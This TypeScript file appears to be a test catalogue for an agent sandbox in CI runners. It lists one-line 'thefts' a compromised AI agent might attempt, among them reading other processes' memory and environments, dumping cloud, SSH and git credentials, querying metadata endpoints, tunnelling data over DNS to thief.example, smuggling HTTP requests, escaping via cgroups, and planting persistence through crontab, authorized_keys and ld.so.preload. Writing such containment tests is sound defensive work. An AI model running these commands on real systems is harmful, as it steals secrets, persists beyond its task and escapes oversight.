/**
 * What a taken-over agent tries, one line each. Each is a script for a shell (or for Node.js) that prints whatever it gets hold of,
 * or leaves `POISON <name>` where it must not be able to write.
 *
 * Told to the scripts, since a thief knows how a job is laid out: $JOB_HOME, $JOB_TEMP (the runner's temporary folder), $PRIVATE (our
 * own folder), $MAIN and $WORKER (process ids on the machine), $SIBLING (a background process of an earlier step), $PORT (another
 * service on loopback), $BROKER (host:port of ours), $BEARER (what the agent was given for it), $NAME (the theft's own name).
 */

export interface Theft {
  readonly name: string;
  /** For the table, in words. */
  readonly what: string;
  readonly group: 'environment' | 'processes' | 'files' | 'sockets' | 'network' | 'later steps' | 'broker';
  readonly sh?: string;
  readonly js?: string;
}

const eachProcess = (file: string): string =>
  `for p in /proc/[0-9]*; do cat "$p/${file}" 2>/dev/null; done | tr '\\0' '\\n'`;

/** Reads what a process has in memory, by its own map. */
const memory = (pid: string): string => `
const fs=require('fs');const pid=${pid};
const maps=fs.readFileSync('/proc/'+pid+'/maps','utf8').split('\\n');
const mem=fs.openSync('/proc/'+pid+'/mem','r');
for(const row of maps){const m=/^([0-9a-f]+)-([0-9a-f]+) rw/.exec(row);if(!m)continue;
let from=parseInt(m[1],16);const to=parseInt(m[2],16);
for(;from<to;from+=1<<20){const b=Buffer.alloc(Math.min(1<<20,to-from));
try{fs.readSync(mem,b,0,b.length,from)}catch{break}
const hits=b.toString('latin1').match(/CANARY[0-9A-Za-z_]{6,80}/g);if(hits)console.log([...new Set(hits)].join(' '))}}`;

const get = (url: string, headers = ''): string => `curl -sS -g --noproxy '*' --max-time 1 ${headers} '${url}'`;

const raw = (text: string): string => `
const net=require('net');const [h,p]=process.env.BROKER.split(':');
const s=net.connect(+p,h,()=>s.write(${text}));s.on('data',d=>process.stdout.write(d)).on('error',e=>console.log(e.code));
setTimeout(()=>process.exit(),700);`;

const poison = (path: string): string => `echo "POISON $NAME" >> "${path}"`;

export const THEFTS: readonly Theft[] = [
  // What a process was started with.
  { name: 'own-env', what: 'its own environment', group: 'environment', sh: 'env; export -p' },
  {
    name: 'own-environ',
    what: 'its own /proc/self/environ',
    group: 'environment',
    sh: "tr '\\0' '\\n' </proc/self/environ",
  },
  {
    name: 'parent-environ',
    what: "its parent's environment",
    group: 'environment',
    sh: "tr '\\0' '\\n' </proc/$PPID/environ; p=$(awk '/PPid/{print $2}' /proc/$PPID/status); cat /proc/$p/environ",
  },
  {
    name: 'main-environ',
    what: "keyless-agent's environment",
    group: 'environment',
    sh: "tr '\\0' '\\n' </proc/$MAIN/environ",
  },
  {
    name: 'worker-environ',
    what: "the runner's environment",
    group: 'environment',
    sh: "tr '\\0' '\\n' </proc/$WORKER/environ",
  },
  {
    name: 'sibling-environ',
    what: "an earlier step's background process",
    group: 'environment',
    sh: "tr '\\0' '\\n' </proc/$SIBLING/environ",
  },
  { name: 'all-environ', what: 'the environment of every process', group: 'environment', sh: eachProcess('environ') },
  { name: 'ps-environ', what: 'ps with environments', group: 'environment', sh: 'ps auxeww' },
  {
    name: 'pid1-environ',
    what: "the first process's environment",
    group: 'environment',
    sh: "tr '\\0' '\\n' </proc/1/environ",
  },
  {
    name: 'task-environ',
    what: 'environments by way of threads',
    group: 'environment',
    sh: "for t in /proc/*/task/*/environ; do tr '\\0' '\\n' <$t; done 2>/dev/null",
  },
  // What a process holds.
  { name: 'main-memory', what: "keyless-agent's memory", group: 'processes', js: memory('process.env.MAIN') },
  { name: 'worker-memory', what: "the runner's memory", group: 'processes', js: memory('process.env.WORKER') },
  { name: 'sibling-memory', what: "an earlier step's memory", group: 'processes', js: memory('process.env.SIBLING') },
  { name: 'parent-memory', what: "its parent's memory", group: 'processes', js: memory('process.ppid') },
  {
    name: 'gdb-attach',
    what: 'a debugger attached to another process',
    group: 'processes',
    sh: 'timeout 4 gdb -p $SIBLING -batch -ex "x/400s *(char**)environ" 2>&1',
  },
  {
    name: 'strace-attach',
    what: 'system calls of another process traced',
    group: 'processes',
    sh: 'timeout 2 strace -f -s 400 -e trace=read,write -p $SIBLING 2>&1 && :; [ -r /proc/$SIBLING/syscall ] && cat /proc/$SIBLING/syscall',
  },
  {
    name: 'gcore',
    what: 'a core dump made of another process',
    group: 'processes',
    sh: 'cd "$TMPDIR" && timeout 4 gcore -o core $SIBLING >/dev/null 2>&1; strings core.* 2>/dev/null | grep CANARY | head -3 || grep -a -o "CANARY[A-Za-z0-9_]*" core.* | head -3; rm -f core.*',
  },
  {
    name: 'core-dump',
    what: 'a crash of a process, and its core file',
    group: 'processes',
    sh: 'kill -SEGV $SIBLING; sleep 0.3; grep -a -o "CANARY[A-Za-z0-9_]*" "$JOB_HOME"/core* /core* ./core* 2>/dev/null | head -3',
  },
  {
    name: 'inspector-main',
    what: "keyless-agent's debugger, opened by a signal",
    group: 'processes',
    sh: `kill -USR1 $MAIN; sleep 0.3; ${get('http://127.0.0.1:9229/json/list')}`,
  },
  {
    name: 'inspector-worker',
    what: "a Node process's debugger, opened by a signal, and asked for its environment",
    group: 'processes',
    js: `process.kill(+process.env.WORKER,'SIGUSR1');setTimeout(async()=>{const l=await (await fetch('http://127.0.0.1:9229/json/list')).json();
const w=new WebSocket(l[0].webSocketDebuggerUrl);w.onopen=()=>w.send(JSON.stringify({id:1,method:'Runtime.evaluate',params:{expression:'JSON.stringify(process.env)'}}));
w.onmessage=m=>{console.log(m.data);process.exit()}},300)`,
  },
  {
    name: 'main-fds',
    what: "keyless-agent's open files",
    group: 'processes',
    sh: 'for f in /proc/$MAIN/fd/*; do [ -f "$f" ] && head -c 4096 "$f"; done 2>/dev/null',
  },
  {
    name: 'worker-fds',
    what: "the runner's open files, deleted ones too",
    group: 'processes',
    sh: 'for f in /proc/$WORKER/fd/*; do [ -f "$f" ] && head -c 4096 "$f"; done 2>/dev/null',
  },
  {
    name: 'map-files',
    what: 'mapped files of other processes',
    group: 'processes',
    sh: 'ls -l /proc/$MAIN/map_files /proc/$WORKER/map_files && cat /proc/$WORKER/map_files/* 2>/dev/null | grep -a -o "CANARY[A-Za-z0-9_]*" | head',
  },
  {
    name: 'proc-root',
    what: "the machine's files by way of another process",
    group: 'processes',
    sh: 'cat /proc/$MAIN/root$JOB_HOME/.aws/credentials /proc/$WORKER/root$JOB_HOME/.aws/credentials /proc/1/root$JOB_HOME/.aws/credentials',
  },
  {
    name: 'proc-cwd',
    what: "the runner's folder by way of its process",
    group: 'processes',
    sh: 'cat /proc/$WORKER/cwd/.netrc /proc/$WORKER/cwd/.aws/credentials',
  },
  { name: 'command-lines', what: 'arguments of every process', group: 'processes', sh: eachProcess('cmdline') },
  {
    name: 'kill-main',
    what: 'signals to the runner',
    group: 'processes',
    sh: 'kill -0 $MAIN && kill -0 $WORKER && kill -CONT $WORKER && echo "POISON $NAME"',
  },
  {
    name: 'join-namespaces',
    what: "entering the runner's namespaces",
    group: 'processes',
    sh: 'nsenter -t $WORKER -m -n -p cat "$JOB_HOME/.aws/credentials"; nsenter --target 1 --all cat "$JOB_HOME/.aws/credentials"',
  },
  {
    name: 'write-memory',
    what: "writing into the runner's memory",
    group: 'processes',
    js: `const fs=require('fs');const r=/^([0-9a-f]+)-([0-9a-f]+) rw.*\\[heap\\]/m.exec(fs.readFileSync('/proc/'+process.env.WORKER+'/maps','utf8'));
const f=fs.openSync('/proc/'+process.env.WORKER+'/mem','r+');const b=Buffer.alloc(1);fs.readSync(f,b,0,1,parseInt(r[1],16));fs.writeSync(f,b,0,1,parseInt(r[1],16));console.log('POISON '+process.env.NAME)`,
  },
  // Files.
  { name: 'aws-file', what: '~/.aws/credentials', group: 'files', sh: 'cat "$JOB_HOME/.aws/credentials"' },
  {
    name: 'gcloud-file',
    what: "gcloud's credentials",
    group: 'files',
    sh: 'cat "$JOB_HOME/.config/gcloud/application_default_credentials.json"',
  },
  { name: 'docker-config', what: '~/.docker/config.json', group: 'files', sh: 'cat "$JOB_HOME/.docker/config.json"' },
  { name: 'netrc', what: '~/.netrc', group: 'files', sh: 'cat "$JOB_HOME/.netrc"' },
  { name: 'npmrc', what: '~/.npmrc, readable by everybody', group: 'files', sh: 'cat "$JOB_HOME/.npmrc"' },
  { name: 'ssh-key', what: 'the SSH key', group: 'files', sh: 'cat "$JOB_HOME/.ssh/id_ed25519"' },
  {
    name: 'git-credentials',
    what: 'git credentials of the user',
    group: 'files',
    sh: 'cat "$JOB_HOME/.git-credentials"; HOME=$JOB_HOME git config --global --list; printf "protocol=https\\nhost=github.com\\n\\n" | HOME=$JOB_HOME timeout 2 git -c credential.helper=store credential fill',
  },
  { name: 'kube-config', what: "a cluster's configuration", group: 'files', sh: 'cat "$JOB_HOME/.kube/config"' },
  {
    name: 'checkout-credentials',
    what: "the checkout's token in the runner's folder",
    group: 'files',
    sh: 'cat "$JOB_TEMP"/git-credentials-*.config',
  },
  {
    name: 'command-file-read',
    what: 'what earlier steps exported',
    group: 'files',
    sh: 'cat "$JOB_TEMP"/_runner_file_commands/*',
  },
  {
    name: 'event-file',
    what: 'the event and the input files',
    group: 'files',
    sh: 'find "$JOB_TEMP" -type f -exec cat {} + ',
  },
  {
    name: 'private-folder',
    what: "keyless-agent's own folder",
    group: 'files',
    sh: 'find "$PRIVATE" -type f -exec cat {} +',
  },
  {
    name: 'private-climb',
    what: "keyless-agent's own folder from the agent's",
    group: 'files',
    sh: 'cat "$HOME"/../../*.json "$HOME"/../../leases.jsonl "$HOME"/../../bait',
  },
  { name: 'shared-memory', what: 'shared memory of other programs', group: 'files', sh: 'cat /dev/shm/* ; ipcs -m' },
  {
    name: 'tmp-files',
    what: 'files of others in /tmp',
    group: 'files',
    sh: 'grep -r -s -a -o "CANARY[A-Za-z0-9_]*" /tmp /var/tmp --exclude-dir=jest_0 2>/dev/null | head -20',
  },
  {
    name: 'find-all',
    what: 'a search through every folder for what is new',
    group: 'files',
    sh: 'find / -xdev -newer "$WORKSPACE/start" -type f -size -8k ! -path "/proc/*" ! -path "/sys/*" 2>/dev/null | head -500 | xargs -r grep -s -a -o -h "CANARY[A-Za-z0-9_]*" 2>/dev/null | head',
  },
  {
    name: 'symlink-escape',
    what: 'a link in the workspace to a file outside',
    group: 'files',
    sh: 'ln -sf "$JOB_HOME/.aws/credentials" "$WORKSPACE/link" && cat "$WORKSPACE/link"; rm -f "$WORKSPACE/link"',
  },
  {
    name: 'hard-link',
    what: 'a second name for a file outside',
    group: 'files',
    sh: 'ln "$JOB_HOME/.npmrc" "$WORKSPACE/second" && cat "$WORKSPACE/second"; ln "$JOB_HOME/.aws/credentials" "$TMPDIR/second" && cat "$TMPDIR/second"; rm -f "$WORKSPACE/second"',
  },
  {
    name: 'rename-race',
    what: 'a folder swapped for a link while it is read',
    group: 'files',
    sh: 'cd "$WORKSPACE" && mkdir -p swap && for i in 1 2 3 4 5 6 7 8; do mv swap swap2; ln -s "$JOB_HOME/.aws" swap; cat swap/credentials; rm swap; mv swap2 swap; done; rmdir swap',
  },
  {
    name: 'bind-mount',
    what: 'mounts of its own, in a user namespace',
    group: 'files',
    sh: 'unshare -Urm sh -c \'umount -l "$JOB_HOME"; umount -l /tmp; umount -l /run; mount -o remount,rw /; cat "$JOB_HOME/.aws/credentials"\'',
  },
  {
    name: 'open-by-handle',
    what: 'raw disks',
    group: 'files',
    sh: 'for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg; do timeout 1 head -c 1048576 $d | grep -a -o "CANARY[A-Za-z0-9_]*" | head -2; done',
  },
  // Becoming somebody else.
  {
    name: 'sudo',
    what: 'sudo without a password',
    group: 'processes',
    sh: 'sudo -n cat "$JOB_HOME/.aws/credentials" /proc/$MAIN/environ',
  },
  {
    name: 'su',
    what: 'su and other set-user-id programs',
    group: 'processes',
    sh: 'su root -c "cat $JOB_HOME/.aws/credentials" </dev/null; pkexec cat "$JOB_HOME/.aws/credentials" </dev/null; newgrp docker </dev/null',
  },
  {
    name: 'setuid-copy',
    what: 'a set-user-id program of its own',
    group: 'processes',
    sh: 'cp /bin/cat "$TMPDIR/cat" && chmod 4755 "$TMPDIR/cat" && "$TMPDIR/cat" "$JOB_HOME/.aws/credentials"',
  },
  // Sockets.
  {
    name: 'docker-socket',
    what: 'the docker socket',
    group: 'sockets',
    sh: `curl -sS --max-time 1 --unix-socket /var/run/docker.sock http://d/containers/json; curl -sS --max-time 1 --unix-socket /run/docker.sock http://d/containers/json`,
  },
  {
    name: 'ssh-agent',
    what: 'an SSH agent',
    group: 'sockets',
    sh: `curl -sS --max-time 1 --unix-socket /tmp/ssh-job/agent.1 http://a/`,
  },
  {
    name: 'abstract-socket',
    what: 'an abstract socket of the runner',
    group: 'sockets',
    js: `const s=require('net').connect('\\0'+'job-abstract');s.on('data',d=>process.stdout.write(d)).on('error',e=>console.log(e.code)).on('close',()=>process.exit());setTimeout(()=>process.exit(),500)`,
  },
  {
    name: 'dbus',
    what: 'the system bus and its keys',
    group: 'sockets',
    sh: 'dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames; ls -l /run /run/user',
  },
  // The network.
  {
    name: 'metadata-aws',
    what: 'AWS instance metadata',
    group: 'network',
    sh: get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role'),
  },
  {
    name: 'metadata-aws-v6',
    what: 'AWS instance metadata over IPv6',
    group: 'network',
    sh: get('http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/role'),
  },
  {
    name: 'metadata-ecs',
    what: 'ECS task credentials',
    group: 'network',
    sh: get('http://169.254.170.2/v2/credentials/x'),
  },
  {
    name: 'metadata-gcp',
    what: 'Google metadata',
    group: 'network',
    sh: get(
      'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',
      "-H 'Metadata-Flavor: Google'",
    ),
  },
  {
    name: 'metadata-azure',
    what: 'Azure wire server',
    group: 'network',
    sh: get('http://168.63.129.16/machine?comp=goalstate'),
  },
  {
    name: 'metadata-decimal',
    what: 'metadata by a decimal address',
    group: 'network',
    sh: get('http://2852039166/latest/meta-data/iam/security-credentials/role'),
  },
  {
    name: 'metadata-redirect',
    what: 'metadata through the way out (CONNECT)',
    group: 'network',
    sh: 'curl -sS --max-time 1 -p -x "$HTTPS_PROXY" http://169.254.169.254/latest/meta-data/iam/security-credentials/role; curl -sS --max-time 1 -x "$HTTPS_PROXY" http://169.254.169.254/latest/meta-data/iam/security-credentials/role',
  },
  {
    name: 'connect-tunnel',
    what: "a tunnel to this machine's own services (CONNECT)",
    group: 'network',
    sh: 'for h in 127.0.0.1 localhost "[::1]" 0.0.0.0 2130706433 allowed.example; do curl -sS --max-time 1 -p -x "$HTTPS_PROXY" "http://$h:$PORT/"; done',
  },
  {
    name: 'loopback-service',
    what: 'another service on loopback',
    group: 'network',
    sh: get("http://127.0.0.1:'$PORT'/"),
  },
  {
    name: 'loopback-scan',
    what: 'every port of loopback',
    group: 'network',
    js: `const net=require('net');let n=0;const ports=[];for(const f of ['tcp','tcp6']){try{for(const r of require('fs').readFileSync('/proc/net/'+f,'utf8').split('\\n').slice(1)){const c=r.trim().split(/\\s+/);if(c[3]==='0A')ports.push(parseInt(c[1].split(':')[1],16))}}catch{}}
for(const p of new Set([...ports,2375,9229])){const s=net.connect(p,'127.0.0.1',()=>s.write('GET / HTTP/1.0\\r\\n\\r\\n'));s.on('data',d=>console.log(p+' '+d)).on('error',()=>{})}setTimeout(()=>process.exit(),700)`,
  },
  {
    name: 'host-address',
    what: "this machine's other addresses",
    group: 'network',
    sh: `for a in $(hostname -I 2>/dev/null) 10.0.0.1 172.17.0.1; do ${get("http://'$a':'$PORT'/")}; done`,
  },
  {
    name: 'dns-tunnel',
    what: 'a name lookup that carries data out',
    group: 'network',
    js: `require('dns').setServers(['127.0.0.1:'+process.env.DNS]);require('dns').resolve('poison-'+process.env.NAME+'.thief.example',(e)=>{console.log(e&&e.code);process.exit()});setTimeout(()=>process.exit(),800)`,
  },
  {
    name: 'raw-socket',
    what: 'listening to the traffic of others',
    group: 'network',
    sh: 'timeout 1 tcpdump -A -c 1 -i any 2>&1; python3 -c "import socket;s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,3);s.settimeout(1);print(s.recv(2000))" 2>&1',
  },
  {
    name: 'net-files',
    what: 'connections of others',
    group: 'network',
    sh: 'cat /proc/net/tcp /proc/net/unix /proc/$MAIN/net/tcp',
  },
  {
    name: 'file-variable',
    what: 'a file variable of a GitLab job, open to everybody',
    group: 'files',
    sh: 'cat "$WORKSPACE.tmp/KUBECONFIG"',
  },
  {
    name: 'included-config',
    what: "git's settings with the job token, which a GitLab runner includes",
    group: 'files',
    sh: 'cat "$WORKSPACE.tmp/.gitlab-runner.ext.conf"',
  },
  // Steps that come later.
  {
    name: 'runner-env',
    what: 'a variable for the later scripts of a GitLab job',
    group: 'later steps',
    sh: `chmod 777 "$WORKSPACE.tmp"; ${poison('$WORKSPACE.tmp/gitlab_runner_env')}`,
  },
  {
    name: 'results-write',
    what: 'a variable for later jobs, in our results folder',
    group: 'later steps',
    sh: `chmod 777 "$WORKSPACE/.keyless-agent"; ${poison('$WORKSPACE/.keyless-agent/outputs.env')}`,
  },
  {
    name: 'results-swap',
    what: 'another results folder in the place of ours',
    group: 'later steps',
    sh: `sleep 1; cd "$WORKSPACE"; mv .keyless-agent .moved; mkdir .keyless-agent; ${poison('.keyless-agent/outputs.env')}`,
  },
  {
    name: 'env-file',
    what: 'a variable for later steps',
    group: 'later steps',
    sh: 'for f in "$JOB_TEMP"/_runner_file_commands/*; do echo "POISON $NAME" >> "$f"; done',
  },
  {
    name: 'env-file-swap',
    what: 'the command file replaced',
    group: 'later steps',
    sh: 'cd "$JOB_TEMP/_runner_file_commands" && mv set_env_1 x && echo "POISON $NAME" > set_env_1',
  },
  {
    name: 'state-file',
    what: "the post step's list of what to give back",
    group: 'later steps',
    sh: poison('$PRIVATE/leases.jsonl'),
  },
  {
    name: 'path-shim',
    what: 'a program earlier on the PATH of later steps',
    group: 'later steps',
    sh: 'printf "#!/bin/sh\\n# POISON $NAME\\n" > "$JOB_HOME/bin/git" && chmod +x "$JOB_HOME/bin/git"',
  },
  {
    name: 'ld-preload',
    what: 'a library for every later program',
    group: 'later steps',
    sh: 'echo "# POISON $NAME" >> /etc/ld.so.preload',
  },
  {
    name: 'shell-profile',
    what: "the user's shell start-up",
    group: 'later steps',
    sh: `${poison('$JOB_HOME/.bashrc')}; ${poison('$JOB_HOME/.profile')}`,
  },
  {
    name: 'git-global',
    what: "hooks by the user's git configuration",
    group: 'later steps',
    sh: 'printf "[core]\\n# POISON $NAME\\n hooksPath=/tmp/h\\n" >> "$JOB_HOME/.gitconfig"',
  },
  {
    name: 'authorized-keys',
    what: 'a key to come back with',
    group: 'later steps',
    sh: poison('$JOB_HOME/.ssh/authorized_keys'),
  },
  {
    name: 'action-code',
    what: "an action's code for its post step",
    group: 'later steps',
    sh: poison('$JOB_HOME/work/_actions/other/dist/post.js'),
  },
  {
    name: 'tool-cache',
    what: 'a tool that later jobs start',
    group: 'later steps',
    sh: `${poison('$JOB_HOME/tools/node')}; ${poison('/opt/hostile-tool')}`,
  },
  {
    name: 'crontab',
    what: 'a job that runs when this one is over',
    group: 'later steps',
    sh: '(echo "* * * * * echo POISON $NAME") | crontab - ; ls /var/spool/cron/crontabs 2>/dev/null; at now + 1 minute </dev/null',
  },
  {
    name: 'core-pattern',
    what: 'a program the kernel starts',
    group: 'later steps',
    sh: 'cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern && echo "POISON $NAME"',
  },
  {
    name: 'cgroup-escape',
    what: 'the release agent of a control group',
    group: 'later steps',
    sh: 'for f in /sys/fs/cgroup/*/release_agent; do cat $f > $f && echo "POISON $NAME"; done 2>/dev/null; :',
  },
  {
    name: 'outlive',
    what: 'a process that outlives the step',
    group: 'later steps',
    sh: 'setsid nohup sh -c \'for i in $(seq 120); do sleep 0.3; echo "POISON outlive" >> "$WORKSPACE/outlived"; done\' >/dev/null 2>&1 &',
  },
  // Our own port.
  {
    name: 'broker-no-bearer',
    what: 'the broker without its bearer',
    group: 'broker',
    sh: get("http://'$BROKER'/v1/messages", "-X POST -d '{}'"),
  },
  {
    name: 'broker-other-path',
    what: 'another path of the broker',
    group: 'broker',
    sh: `for p in / /v1/../admin /v1/models /debug /proxy?url=http://127.0.0.1:$PORT/ //127.0.0.1/; do curl -sS --noproxy '*' --path-as-is --max-time 1 -H "Authorization: Bearer $BEARER" "http://$BROKER$p"; done`,
  },
  {
    name: 'broker-absolute',
    what: 'the broker as a proxy to elsewhere',
    group: 'broker',
    sh: 'curl -sS --max-time 1 -x "http://$BROKER" -H "Authorization: Bearer $BEARER" "http://127.0.0.1:$PORT/"; curl -sS --max-time 1 -p -x "http://$BROKER" "http://127.0.0.1:$PORT/"',
  },
  {
    name: 'broker-host',
    what: 'the broker under another name',
    group: 'broker',
    sh: `curl -sS --noproxy '*' --max-time 1 -H "Host: 127.0.0.1:$PORT" -H "Authorization: Bearer $BEARER" "http://$BROKER/v1/messages"`,
  },
  {
    name: 'broker-smuggle-cl-te',
    what: 'two lengths in one request',
    group: 'broker',
    js: raw(
      "'POST /v1/messages HTTP/1.1\\r\\nHost: '+process.env.BROKER+'\\r\\nAuthorization: Bearer '+process.env.BEARER+'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'",
    ),
  },
  {
    name: 'broker-smuggle-header',
    what: 'a header hidden in another',
    group: 'broker',
    js: raw(
      "'POST /v1/messages HTTP/1.1\\r\\nHost: '+process.env.BROKER+'\\r\\nAuthorization: Bearer '+process.env.BEARER+'\\r\\nX-A: a\\nX-Forwarded-Host: 127.0.0.1\\r\\nContent-Length: 2\\r\\n\\r\\n{}'",
    ),
  },
  {
    name: 'broker-trace',
    what: 'the request told back (TRACE)',
    group: 'broker',
    sh: `curl -sS --noproxy '*' --max-time 1 -X TRACE -H "Authorization: Bearer $BEARER" "http://$BROKER/v1/messages"`,
  },
  {
    name: 'broker-error',
    what: 'an error that says too much',
    group: 'broker',
    sh: `curl -sS --noproxy '*' --max-time 1 -X POST -H "Authorization: Bearer $BEARER" -H 'content-type: application/json' -d '{"model":"\\u0000","x":' "http://$BROKER/v1/messages"`,
  },
];
